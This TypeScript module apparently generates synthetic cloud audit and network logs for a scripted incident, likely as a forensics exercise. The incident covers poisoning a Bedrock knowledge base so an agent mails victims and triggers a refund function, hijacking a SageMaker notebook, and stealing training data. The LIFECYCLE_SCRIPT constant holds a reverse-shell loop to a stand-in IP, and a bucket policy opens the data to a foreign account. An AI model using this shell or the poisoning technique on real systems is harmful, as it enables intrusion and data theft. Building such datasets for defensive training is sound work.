import { agentInvoke, sendMail } from "./agent.js";
import { MINUTE, utc } from "./clock.js";
import { type Call, recordOf } from "./cloudtrail.js";
import type { Numbering } from "./identifier.js";
import { AGENT_OF, admin, KB, NB, NB_NAT, NB_STOLEN, TOOL } from "./identity.js";
import type { Journal } from "./journal.js";
import { ingestion } from "./knowledge.js";
import {
  ACCOUNT,
  ADDRESS,
  arn,
  BUCKET,
  DATA_SOURCE,
  ENI,
  FOREIGN_ACCOUNT,
  FOREIGN_BUCKET,
  HOME,
  KNOWLEDGE_BASE,
  NOTEBOOK,
  PART_BYTES,
  PRIVATE_BYTES,
  PRIVATE_KEY,
  partKey,
  SUBNET,
  TRAINING_PARTS,
} from "./place.js";
import { POISONED_DOCUMENTS } from "./prompt.js";
import { touch } from "./s3-access.js";

// The second part, 11:02 to 13:05: the knowledge base is poisoned, the notebook is taken over, the training set leaves in
// three ways.

const at = (time: string) => utc(`2026-03-11T${time}`);
const SAGEMAKER_HOST = `api.sagemaker.${HOME}.amazonaws.com`;

/** Base64 of the script that the lifecycle configuration runs. */
export const LIFECYCLE_SCRIPT = Buffer.from(
  "#!/bin/bash\nset -e\nnohup bash -c 'while true; do bash -i >& /dev/tcp/198.51.100.200/8443 0>&1; sleep 60; done' >/dev/null 2>&1 &\n",
).toString("base64");

/** Version that the attacker's write of a document made. */
export function poisonedVersion(key: string): string {
  return `v-x-${key.slice("policies/".length, -".md".length)}`;
}

function knowledge(journal: Journal, numbering: Numbering, tell: (call: Call) => void): void {
  const bedrock = {
    caller: admin(),
    service: "bedrock",
    host: `bedrock-agent.${HOME}.amazonaws.com`,
  } as const;
  tell({ ...bedrock, at: at("11:02:00"), name: "ListKnowledgeBases" });
  tell({
    ...bedrock,
    at: at("11:02:20"),
    name: "GetKnowledgeBase",
    request: { knowledgeBaseId: KNOWLEDGE_BASE },
  });
  tell({
    ...bedrock,
    at: at("11:02:40"),
    name: "ListDataSources",
    request: { knowledgeBaseId: KNOWLEDGE_BASE },
  });
  tell({
    ...bedrock,
    at: at("11:03:00"),
    name: "GetDataSource",
    request: { knowledgeBaseId: KNOWLEDGE_BASE, dataSourceId: DATA_SOURCE },
  });
  const writes = ["11:07:00", "11:08:00", "11:09:00"];
  const reads = ["11:11:30", "11:11:50", "11:12:10"];
  POISONED_DOCUMENTS.forEach((key, i) => {
    const object = { bucket: BUCKET.kb, key, size: 24_000, version: poisonedVersion(key) };
    touch(journal, numbering, { ...object, at: at(writes[i]!), caller: admin(), operation: "PutObject" });
    touch(journal, numbering, { ...object, at: at(reads[i]!), caller: KB, operation: "GetObject" });
  });
  journal.event(ingestion(admin(), at("11:11:00"), "JOBACME999", numbering));
  for (let i = 0; i < 6; i++) agentInvoke(journal, numbering, at("11:31:00") + 45 * i);
  for (let i = 0; i < 37; i++)
    sendMail(journal, numbering, at("11:31:03") + 8 * i, `victim${i}@mailbox.example.net`);
  const refund = arn("lambda", "function:billing-refund");
  tell({
    at: at("11:36:00"),
    caller: TOOL,
    service: "lambda",
    name: "Invoke",
    data: true,
    write: true,
    request: { functionName: refund, invocationType: "RequestResponse" },
    additional: { functionVersion: `${refund}:$LATEST` },
    resources: [{ accountId: ACCOUNT, type: "AWS::Lambda::Function", ARN: refund }],
  });
}

function notebook(tell: (call: Call) => void): void {
  const sagemaker = { caller: admin(), service: "sagemaker", host: SAGEMAKER_HOST, write: true } as const;
  const name = { notebookInstanceName: NOTEBOOK };
  tell({
    ...sagemaker,
    at: at("11:40:00"),
    name: "CreateNotebookInstanceLifecycleConfig",
    request: {
      notebookInstanceLifecycleConfigName: "nb-autostart",
      onStart: [{ content: LIFECYCLE_SCRIPT }],
    },
    response: {
      notebookInstanceLifecycleConfigArn: arn("sagemaker", "notebook-instance-lifecycle-config/nb-autostart"),
    },
  });
  tell({ ...sagemaker, at: at("11:41:00"), name: "StopNotebookInstance", request: name });
  tell({
    ...sagemaker,
    at: at("11:46:00"),
    name: "UpdateNotebookInstance",
    request: { ...name, lifecycleConfigName: "nb-autostart" },
  });
  tell({ ...sagemaker, at: at("11:47:00"), name: "StartNotebookInstance", request: name });
  tell({
    ...sagemaker,
    at: at("12:05:00"),
    name: "CreatePresignedNotebookInstanceUrl",
    request: name,
    response: { authorizedUrl: "HIDDEN_DUE_TO_SECURITY_REASONS" },
  });
}

/** A flow that the workload interface and the NAT gateway both report. */
function outbound(
  journal: Journal,
  start: number,
  target: string,
  port: number,
  bytes: number,
  packets: number,
): void {
  const flow = {
    start,
    end: start + MINUTE,
    status: "OK",
    target,
    targetPort: port,
    bytes,
    packets,
    path: 8,
  } as const;
  const sourcePort = port === 8443 ? 49_822 : 50_114;
  journal.flow({
    ...flow,
    eni: ENI.notebook,
    source: ADDRESS.notebook,
    sourcePort,
    subnet: SUBNET.app,
    path: 1,
  });
  journal.flow({
    ...flow,
    eni: ENI.nat,
    source: ADDRESS.natPrivate,
    sourcePort: sourcePort + 7,
    packetSource: ADDRESS.notebook,
    subnet: SUBNET.public,
  });
}

function network(journal: Journal): void {
  for (let i = 0; i < 148; i++) {
    outbound(journal, at("11:54:00") + MINUTE * i, ADDRESS.control, 8443, 1180 + ((7 * i) % 61), 10);
  }
  for (let i = 0; i < 17; i++) {
    outbound(journal, at("12:24:00") + MINUTE * i, ADDRESS.drop, 443, 347_100_000, 240_000);
  }
}

function theft(journal: Journal, numbering: Numbering, tell: (call: Call) => void): void {
  tell({
    at: at("12:09:11"),
    caller: NB_NAT,
    service: "sagemaker",
    name: "DescribeTrainingJob",
    host: SAGEMAKER_HOST,
    request: { trainingJobName: "churn-train-20260311" },
  });
  const training = { bucket: BUCKET.training, size: PART_BYTES } as const;
  for (let i = 0; i < 5; i++) {
    touch(journal, numbering, {
      at: at("12:09:40") + 3 * i,
      caller: NB,
      bucket: BUCKET.training,
      operation: "ListObjects",
      size: 187_000 + i,
    });
  }
  for (let i = 0; i < TRAINING_PARTS; i++) {
    const second = at("12:10:00") + Math.floor(1.5 * i);
    touch(journal, numbering, {
      ...training,
      at: second,
      caller: NB,
      key: partKey(i),
      operation: "GetObject",
    });
  }
  const cli = admin(AGENT_OF.cli);
  for (let i = 0; i < 130; i++) {
    const second = at("12:45:00") + Math.floor((32 * i) / 10);
    touch(journal, numbering, {
      ...training,
      at: second,
      caller: cli,
      key: partKey(i),
      operation: "GetObject",
    });
  }
  tell({ at: at("12:58:00"), caller: NB_STOLEN, service: "sts", name: "GetCallerIdentity" });
  tell({
    at: at("12:58:20"),
    caller: NB_STOLEN,
    service: "s3",
    name: "ListBuckets",
    request: { Host: `s3.${HOME}.amazonaws.com` },
  });
  touch(journal, numbering, {
    at: at("12:59:10"),
    caller: NB_STOLEN,
    bucket: BUCKET.private,
    key: PRIVATE_KEY,
    operation: "GetObject",
    size: PRIVATE_BYTES,
  });
  for (let i = 0; i < 12; i++) {
    touch(journal, numbering, {
      ...training,
      at: at("13:02:00") + 10 * i,
      caller: admin(),
      key: partKey(i),
      operation: "CopyObject",
      target: { bucket: FOREIGN_BUCKET, account: FOREIGN_ACCOUNT },
    });
  }
  tell({
    at: at("13:05:00"),
    caller: admin(),
    service: "s3",
    name: "PutBucketPolicy",
    write: true,
    host: `${BUCKET.training}.s3.${HOME}.amazonaws.com`,
    request: {
      bucketName: BUCKET.training,
      Host: `${BUCKET.training}.s3.${HOME}.amazonaws.com`,
      policy: "",
      bucketPolicy: SHARED_POLICY,
    },
    resources: [{ accountId: ACCOUNT, type: "AWS::S3::Bucket", ARN: `arn:aws:s3:::${BUCKET.training}` }],
  });
}

/** The policy that opens the training bucket to the foreign account. */
export const SHARED_POLICY = {
  Version: "2012-10-17",
  Statement: [
    {
      Sid: "share",
      Effect: "Allow",
      Principal: { AWS: `arn:aws:iam::${FOREIGN_ACCOUNT}:root` },
      Action: "s3:*",
      Resource: [`arn:aws:s3:::${BUCKET.training}`, `arn:aws:s3:::${BUCKET.training}/*`],
    },
  ],
};

/** Tells the poisoning, the takeover of the notebook and the theft. */
export function data(journal: Journal, numbering: Numbering): void {
  const tell = (call: Call) => journal.event(recordOf(call, numbering));
  knowledge(journal, numbering, tell);
  notebook(tell);
  network(journal);
  theft(journal, numbering, tell);
}
